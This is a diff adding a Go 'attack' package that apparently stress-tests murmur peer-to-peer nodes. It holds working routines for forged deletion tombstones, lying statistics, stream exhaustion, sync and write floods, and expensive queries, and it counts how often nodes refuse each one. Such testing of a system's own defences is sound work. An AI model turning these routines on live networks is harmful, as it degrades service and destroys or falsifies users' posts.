@@ -1,0 +1,483 @@
+package attack
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"maps"
+	mrand "math/rand/v2"
+	"slices"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	kb "github.com/libp2p/go-libp2p-kbucket"
+	"github.com/libp2p/go-libp2p/core/crypto"
+	"github.com/libp2p/go-libp2p/core/network"
+	"github.com/libp2p/go-libp2p/core/peer"
+	"github.com/libp2p/go-libp2p/core/protocol"
+
+	"github.com/murmur-p2p/murmur/p2p"
+	"github.com/murmur-p2p/murmur/post"
+)
+
+// The attacker's own definitions of murmur's messages (JSON, one
+// length-prefixed message each way).
+type (
+	storeItem struct {
+		Post json.RawMessage `json:"post"`
+		Keys []string        `json:"keys"`
+	}
+	storeRequest struct {
+		Posts      []storeItem       `json:"posts,omitempty"`
+		Tombstones []json.RawMessage `json:"tombstones,omitempty"`
+	}
+	storeResult struct {
+		Error    string   `json:"error"`
+		Reason   string   `json:"reason"`
+		BadKeys  []string `json:"bad_keys"`
+		NotOwned []string `json:"not_owned"`
+	}
+	storeResponse struct {
+		Posts      []storeResult `json:"posts"`
+		Tombstones []string      `json:"tombstones"`
+	}
+	keyIDs struct {
+		Key string   `json:"k"`
+		IDs []string `json:"ids"`
+	}
+	syncRequest struct {
+		Lists []keyIDs `json:"lists"`
+	}
+	statsRequest struct {
+		Keys    []string `json:"keys"`
+		Summary bool     `json:"summary"`
+	}
+	group struct {
+		Owners []string `json:"owners"`
+		Posts  uint64   `json:"posts"`
+		Terms  uint64   `json:"terms"`
+		Hot    []string `json:"hot,omitempty"`
+	}
+	summary struct {
+		Groups []group `json:"groups"`
+	}
+	statsResponse struct {
+		Counts  []int    `json:"counts"`
+		Summary *summary `json:"summary,omitempty"`
+	}
+)
+
+// pause waits d or until ctx ends.
+func pause(ctx context.Context, d time.Duration) error {
+	select {
+	case <-ctx.Done():
+		return ctx.Err()
+	case <-time.After(d):
+		return nil
+	}
+}
+
+// forEachPeer runs fn for every peer, workers at a time each, until fn
+// returns or ctx ends, and waits for them.
+func (e *env) forEachPeer(ctx context.Context, workers int, fn func(ctx context.Context, p peer.ID)) {
+	var wg sync.WaitGroup
+	for _, p := range e.peers() {
+		for range workers {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				fn(ctx, p)
+			}()
+		}
+	}
+	wg.Wait()
+}
+
+// findPosts pages through every post the peers hold, by a date-only query
+// (which no key routes, so each peer searches its whole index), up to max.
+func (e *env) findPosts(ctx context.Context, max int) map[string]string {
+	found := map[string]string{} // ID -> author
+	for _, p := range e.peers() {
+		var after []string
+		for page := 0; page < 50 && len(found) < max; page++ {
+			req := p2p.SearchRequest{Query: "since:1970-01-01", Sort: "latest", Size: 1000, After: after}
+			var resp p2p.SearchResponse
+			if err := e.exchange(ctx, p, p2p.SearchProtocol(e.cfg.Network), &req, &resp); err != nil {
+				e.rep.Add("searches for posts failed", 1)
+				break
+			}
+			for _, h := range resp.Hits {
+				var po struct{ ID, Author string }
+				if json.Unmarshal(h.Post, &po) == nil && po.ID != "" {
+					found[po.ID] = po.Author
+				}
+			}
+			if len(resp.Hits) < req.Size {
+				break
+			}
+			after = resp.Hits[len(resp.Hits)-1].Sort
+		}
+	}
+	return found
+}
+
+// forgedTombstones finds posts and sends every peer tombstones for them
+// signed with the attacker's key, again every two seconds so that nodes
+// that join get them before the posts.
+func forgedTombstones(ctx context.Context, e *env) error {
+	self := e.svc.ID().String()
+	forged := map[string]json.RawMessage{}
+	for ctx.Err() == nil {
+		for id, author := range e.findPosts(ctx, 100_000) {
+			if _, ok := forged[id]; ok || author == self {
+				continue
+			}
+			t, err := post.SignTombstone(e.key, id, time.Now())
+			if err != nil {
+				return err
+			}
+			raw, _ := json.Marshal(t)
+			forged[id] = raw
+		}
+		all := slices.Collect(maps.Values(forged))
+		for _, p := range e.peers() {
+			for start := 0; start < len(all) && ctx.Err() == nil; start += 500 {
+				batch := all[start:min(start+500, len(all))]
+				var resp storeResponse
+				if err := e.exchange(ctx, p, p2p.StoreProtocol(e.cfg.Network), &storeRequest{Tombstones: batch}, &resp); err != nil {
+					e.rep.Add("requests refused or failed", 1)
+					continue
+				}
+				e.rep.Add("tombstones sent", len(batch))
+				for _, r := range resp.Tombstones {
+					switch {
+					case r == "":
+						e.rep.Add("tombstones taken (applied, or waiting for a post)", 1)
+					case strings.Contains(r, "not the post's author"):
+						e.rep.Add("tombstones refused: not the post's author", 1)
+					case strings.Contains(r, "too many"):
+						e.rep.Add("tombstones refused: too many waiting", 1)
+					default:
+						e.rep.Add("tombstones refused: other", 1)
+					}
+				}
+			}
+		}
+		e.rep.Set("posts found", len(forged))
+		if err := pause(ctx, 2*time.Second); err != nil {
+			return err
+		}
+	}
+	return ctx.Err()
+}
+
+// poisonedStats answers every statistics request with lies: key counts of
+// a million, the figures of the attacker's own owner groups inflated a
+// thousandfold, and a group it invents with a stranger.
+func poisonedStats(ctx context.Context, e *env) error {
+	var mu sync.Mutex
+	var groups []group
+	var at time.Time
+	stranger := randomPeer()
+	lies := func() []group {
+		mu.Lock()
+		defer mu.Unlock()
+		if time.Since(at) > 5*time.Second {
+			groups, at = e.inflatedGroups(ctx, stranger), time.Now()
+		}
+		return groups
+	}
+	h := e.svc.Host()
+	h.SetStreamHandler(p2p.StatsProtocol(e.cfg.Network), func(st network.Stream) {
+		st.SetDeadline(time.Now().Add(10 * time.Second))
+		var req statsRequest
+		if err := readJSON(st, &req); err != nil {
+			st.Reset()
+			return
+		}
+		resp := statsResponse{Counts: make([]int, len(req.Keys))}
+		for i := range resp.Counts {
+			resp.Counts[i] = 1_000_000
+		}
+		if req.Summary {
+			resp.Summary = &summary{Groups: lies()}
+		}
+		if err := writeJSON(st, resp); err != nil {
+			st.Reset()
+			return
+		}
+		st.Close()
+		e.rep.Add("statistics answered with lies", 1)
+		if req.Summary {
+			e.rep.Add("summaries answered with lies", 1)
+		}
+	})
+	<-ctx.Done()
+	return ctx.Err()
+}
+
+// inflatedGroups are the attacker's owner groups, as an honest member would
+// report them, inflated, and one invented.
+func (e *env) inflatedGroups(ctx context.Context, stranger peer.ID) []group {
+	self := e.svc.ID()
+	byKey := map[string]*group{}
+	_ = e.ix.Walk(ctx, func(po *post.Post) error {
+		for _, k := range p2p.Keys(po) {
+			owners, err := e.svc.Owners(ctx, k)
+			if err != nil || !slices.Contains(owners, self) {
+				continue
+			}
+			names := make([]string, len(owners))
+			for i, o := range owners {
+				names[i] = o.String()
+			}
+			sort.Strings(names)
+			gk := strings.Join(names, ",")
+			g := byKey[gk]
+			if g == nil {
+				g = &group{Owners: names}
+				byKey[gk] = g
+			}
+			if strings.HasPrefix(k, p2p.ClassAuthor+"/") {
+				g.Posts++
+			} else {
+				g.Terms++
+			}
+		}
+		return nil
+	})
+	var out []group
+	for _, g := range byKey {
+		g.Posts, g.Terms = g.Posts*1000+1000, g.Terms*1000+1000
+		out = append(out, *g)
+	}
+	return append(out, group{Owners: []string{self.String(), stranger.String()}, Posts: 1 << 30, Terms: 1 << 30})
+}
+
+func randomPeer() peer.ID {
+	_, pub, _ := crypto.GenerateEd25519Key(nil)
+	id, _ := peer.IDFromPublicKey(pub)
+	return id
+}
+
+// idleStreams keeps up to 32 streams of each murmur protocol open to every
+// peer, sending a length prefix and nothing more, and opens new ones as
+// the peer resets them.
+func idleStreams(ctx context.Context, e *env) error {
+	protos := []protocol.ID{
+		p2p.StoreProtocol(e.cfg.Network), p2p.SyncProtocol(e.cfg.Network),
+		p2p.StatsProtocol(e.cfg.Network), p2p.SearchProtocol(e.cfg.Network),
+	}
+	e.forEachPeer(ctx, 32, func(ctx context.Context, p peer.ID) {
+		for i := 0; ctx.Err() == nil; i++ {
+			proto := protos[i%len(protos)]
+			octx, cancel := context.WithTimeout(ctx, 2*time.Second)
+			st, err := e.svc.Host().NewStream(octx, p, proto)
+			cancel()
+			if err != nil {
+				e.rep.Add("streams refused at opening", 1)
+				_ = pause(ctx, 200*time.Millisecond)
+				continue
+			}
+			e.rep.Add("idle streams opened", 1)
+			st.Write([]byte{0x10}) // a request of 16 bytes is coming...
+			d, _ := ctx.Deadline()
+			st.SetReadDeadline(d)
+			if _, err := st.Read(make([]byte, 1)); err != nil && ctx.Err() == nil {
+				e.rep.Add("idle streams closed by the node", 1)
+			}
+			st.Reset()
+		}
+	})
+	return ctx.Err()
+}
+
+// syncFlood asks every peer, four requests at a time, which of 20,000
+// random IDs it lacks under a hot key.
+func syncFlood(ctx context.Context, e *env) error {
+	ids := make([]string, 20_000)
+	for i := range ids {
+		var b [32]byte
+		rand.Read(b[:])
+		ids[i] = hex.EncodeToString(b[:])
+	}
+	req := syncRequest{Lists: []keyIDs{{Key: p2p.TermKeys("the")[0], IDs: ids}}}
+	e.forEachPeer(ctx, 4, func(ctx context.Context, p peer.ID) {
+		for ctx.Err() == nil {
+			var resp json.RawMessage
+			e.rep.Add("sync requests sent", 1)
+			if err := e.exchange(ctx, p, p2p.SyncProtocol(e.cfg.Network), &req, &resp); err != nil {
+				if ctx.Err() == nil {
+					e.rep.Add("sync requests refused or reset", 1)
+				}
+				continue
+			}
+			e.rep.Add("sync requests answered", 1)
+		}
+	})
+	return ctx.Err()
+}
+
+// words are the vocabulary of the attacker's posts.
+var words = strings.Fields("storm harbor lantern meadow quartz velvet falcon ember thistle orchard granite willow " +
+	"copper saffron tundra marble comet ivory nectar basalt cobalt juniper raven prairie")
+
+func randomText(n int) string {
+	w := make([]string, n)
+	for i := range w {
+		w[i] = words[mrand.IntN(len(words))]
+	}
+	return strings.Join(w, " ") + fmt.Sprintf(" %d", mrand.Uint64())
+}
+
+// unownedWrites sends each post's keys to peers that are not among the
+// R+OwnerMargin closest to them.
+func unownedWrites(ctx context.Context, e *env) error {
+	for ctx.Err() == nil {
+		perPeer := map[peer.ID][]storeItem{}
+		peers := e.peers()
+		for range 100 {
+			po, err := post.Sign(e.key, post.Draft{Text: randomText(3)}, time.Now())
+			if err != nil {
+				return err
+			}
+			raw, _ := json.Marshal(po)
+			byPeer := map[peer.ID][]string{}
+			for _, k := range p2p.Keys(po) {
+				for _, p := range farFrom(k, peers, e.svc.ID(), e.cfg.Replicas+p2p.OwnerMargin) {
+					byPeer[p] = append(byPeer[p], k)
+				}
+			}
+			for p, ks := range byPeer {
+				perPeer[p] = append(perPeer[p], storeItem{Post: raw, Keys: ks})
+			}
+		}
+		for p, items := range perPeer {
+			var resp storeResponse
+			if err := e.exchange(ctx, p, p2p.StoreProtocol(e.cfg.Network), &storeRequest{Posts: items}, &resp); err != nil {
+				e.rep.Add("requests refused or failed", 1)
+				continue
+			}
+			for i, r := range resp.Posts {
+				if i >= len(items) {
+					break
+				}
+				e.rep.Add("keys sent to a node that does not own them", len(items[i].Keys))
+				if r.Error != "" {
+					e.rep.Add("posts refused: "+orOther(r.Reason), 1)
+					continue
+				}
+				e.rep.Add("keys refused: not_owner", len(r.NotOwned))
+				e.rep.Add("keys taken by a node that does not own them", len(items[i].Keys)-len(r.NotOwned)-len(r.BadKeys))
+			}
+		}
+		if err := pause(ctx, 200*time.Millisecond); err != nil {
+			return err
+		}
+	}
+	return ctx.Err()
+}
+
+func orOther(reason string) string {
+	if reason == "" {
+		return "other"
+	}
+	return reason
+}
+
+// farFrom lists the peers that are not among the n closest to key, of
+// peers and self.
+func farFrom(key string, peers []peer.ID, self peer.ID, n int) []peer.ID {
+	all := append(slices.Clone(peers), self)
+	target := kb.ConvertKey(key)
+	sort.Slice(all, func(i, j int) bool {
+		di := kb.ConvertPeerID(all[i])
+		dj := kb.ConvertPeerID(all[j])
+		return string(xor(di, target)) < string(xor(dj, target))
+	})
+	var out []peer.ID
+	for i, p := range all {
+		if i >= n && p != self {
+			out = append(out, p)
+		}
+	}
+	return out
+}
+
+func xor(a, b kb.ID) []byte {
+	out := make([]byte, len(a))
+	for i := range a {
+		out[i] = a[i] ^ b[i]
+	}
+	return out
+}
+
+// writeFlood signs fresh posts with several fresh identities and places
+// them at their owners as fast as it can, as a spammer with cheap keys
+// would.
+func writeFlood(ctx context.Context, e *env) error {
+	keys := make([]crypto.PrivKey, e.cfg.Identities)
+	for i := range keys {
+		k, _, err := crypto.GenerateEd25519Key(nil)
+		if err != nil {
+			return err
+		}
+		keys[i] = k
+	}
+	for i := 0; ctx.Err() == nil; i++ {
+		key := keys[i%len(keys)]
+		posts := make([]*post.Post, 0, 200)
+		for range 200 {
+			po, err := post.Sign(key, post.Draft{Text: randomText(6)}, time.Now())
+			if err != nil {
+				return err
+			}
+			posts = append(posts, po)
+		}
+		if _, err := e.ix.Put(ctx, posts...); err != nil {
+			return fmt.Errorf("the attacker's own store: %w", err)
+		}
+		for _, err := range e.svc.Place(ctx, posts) {
+			var short *p2p.ShortError
+			switch {
+			case err == nil:
+				e.rep.Add("posts placed at their owners", 1)
+			case errors.As(err, &short):
+				e.rep.Add("posts refused by some owners", 1)
+			}
+		}
+		e.rep.Add("posts written", len(posts))
+	}
+	return ctx.Err()
+}
+
+// costlyQueries asks every peer, four at a time, searches that cost the
+// most: many fuzzy terms, a one-letter prefix, wildcards.
+func costlyQueries(ctx context.Context, e *env) error {
+	queries := []string{
+		strings.Repeat("harbor~2 ", 60),
+		"a*", "e*", "*e*", "s*a*", "tundra~2 storm~2 ember~2 raven~2",
+	}
+	e.forEachPeer(ctx, 4, func(ctx context.Context, p peer.ID) {
+		for i := 0; ctx.Err() == nil; i++ {
+			req := p2p.SearchRequest{Query: queries[i%len(queries)], Sort: "top", Size: 100}
+			var resp p2p.SearchResponse
+			err := e.exchange(ctx, p, p2p.SearchProtocol(e.cfg.Network), &req, &resp)
+			switch {
+			case ctx.Err() != nil:
+			case err != nil:
+				e.rep.Add("searches refused or reset", 1)
+			case resp.Refused != "":
+				e.rep.Add("searches refused as too costly", 1)
+			default:
+				e.rep.Add("searches answered", 1)
+			}
+		}
+	})
+	return ctx.Err()
+}
